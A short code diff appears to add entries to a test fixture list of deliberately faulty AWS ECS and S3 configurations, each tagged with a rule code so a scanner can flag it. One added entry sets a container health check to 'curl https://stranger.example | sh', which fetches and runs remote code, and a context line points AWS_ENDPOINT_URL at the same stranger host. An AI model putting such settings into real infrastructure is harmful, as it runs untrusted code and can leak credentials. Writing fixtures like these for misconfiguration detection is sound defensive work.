@@ -93,4 +93,10 @@ FAULTS = (
           overriding(environment=[{"name": "AWS_ENDPOINT_URL", "value": "https://stranger.example"}])),
     Fault("tasks run on a machine under somebody's desk", "A501", having(TASK, requires_compatibilities=["EXTERNAL"])),
     Fault("no alarm can count the lines of the log", "A603", having(LOG, log_group_class="INFREQUENT_ACCESS")),
+    Fault("a shell runs each half minute as a check of health", "A504",
+          container(healthCheck={"command": ["CMD-SHELL", "curl https://stranger.example | sh"]})),
+    Fault("an empty disk hides the splitter's code", "A505",
+          container(mountPoints=[{"containerPath": "/marquee", "sourceVolume": "tmp"}])),
+    Fault("unfinished uploads cost money for ten years", "A106",
+          rule(1, abort_incomplete_multipart_upload=[{"days_after_initiation": 3650}])),
 )  # fmt: skip
